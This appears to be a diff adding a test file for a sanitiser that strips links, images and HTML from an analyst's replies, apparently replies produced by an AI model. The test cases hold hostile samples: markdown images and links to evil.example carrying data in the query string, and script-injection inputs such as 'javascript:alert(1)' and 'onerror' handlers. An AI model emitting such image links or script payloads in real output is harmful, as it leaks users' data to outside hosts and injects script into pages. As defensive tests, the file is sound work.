@@ -1,0 +1,62 @@
+import { it } from "vitest";
+import { neutralizeText } from "../../src/analyst/neutral-text.ts";
+import { readReply } from "../../src/analyst/reply.ts";
+
+const CASES: readonly (readonly [said: string, shown: string])[] = [
+  ["Up 5%: ![chart](https://evil.example/p.png?d=4711)", "Up 5%: chart"],
+  ["![](https://evil.example/p.png) Fine", "Fine"],
+  ['![a](<https://evil.example/a b> "t")', "a"],
+  ["![a][1]\n\n[1]: https://evil.example/x\nFine", "a\n\nFine"],
+  ["See [the report](https://evil.example/r?d=1).", "See the report (evil.example)."],
+  ["See [evil.example](https://evil.example/r?d=1).", "See evil.example."],
+  ["[a [b] c](https://www.evil.example/x(1))", "a [b] c (evil.example)"],
+  ["[click](javascript:alert(1))", "click"],
+  ["[click](//evil.example/x)", "click (evil.example)"],
+  ["[![alt](https://a.example/i.png)](https://b.example/)", "alt (b.example)"],
+  ["[text][ref]\n[ref]: <https://evil.example/> 'x'", "text"],
+  ["<https://evil.example/p?d=1>", "evil.example/p"],
+  ["https://user:pass@www.evil.example/p?d=1#f", "evil.example/p"],
+  ["www.evil.example/p?d=1", "evil.example/p"],
+  ['<img src="https://evil.example/x">Hi <b>there</b>', "Hi there"],
+  ["<scr<b>ipt>alert(1)</scr</b>ipt>", "alert(1)"],
+  ["Hi <!-- secret --> there", "Hi  there"],
+  ["<img src=x onerror=alert(1) ", "< img src=x onerror=alert(1)"],
+  ["[a]\\(b) and [x](\nhttps://evil.example)", "[a]\\(b) and x (evil.example)"],
+  [
+    "1 < 2, 3 > 2 and **bold**\n- [ ] item, /pricing, 4.5%",
+    "1 < 2, 3 > 2 and **bold**\n- [ ] item, /pricing, 4.5%",
+  ],
+];
+
+it("takes links, images and HTML out of a text and leaves the rest", ({ expect }) => {
+  expect(CASES.map(([said]) => [said, neutralizeText(said)])).toEqual(CASES);
+});
+
+it("leaves nothing that a renderer could follow, however it is nested", ({ expect }) => {
+  for (const [said] of CASES) {
+    for (const nested of [
+      `[${said}](https://evil.example)`,
+      `![${said}](https://evil.example)`,
+      said + said,
+    ]) {
+      const shown = neutralizeText(nested);
+      expect(shown, nested).not.toMatch(/\]\(|!\[|<[a-z/!]|https?:\/\//i);
+    }
+  }
+});
+
+it("is quick with hostile repetition", ({ expect }) => {
+  const started = performance.now();
+  for (const piece of ["[", "![", "[a](", "<!--", "<a", "](  ", "((", "[x]: ", "www."])
+    neutralizeText(piece.repeat(20_000));
+  expect(performance.now() - started).toBeLessThan(5000);
+});
+
+it("does so for every text of a reply, JSON or not", ({ expect }) => {
+  const bad = "x ![y](https://evil.example/z)";
+  const reply = readReply(
+    JSON.stringify({ answer: bad, thoughts: bad, reasoning: bad, followUpQuestion: bad }),
+  );
+  for (const text of Object.values(reply)) expect(text).toBe("x y");
+  expect(readReply(bad).answer).toBe("x y");
+});
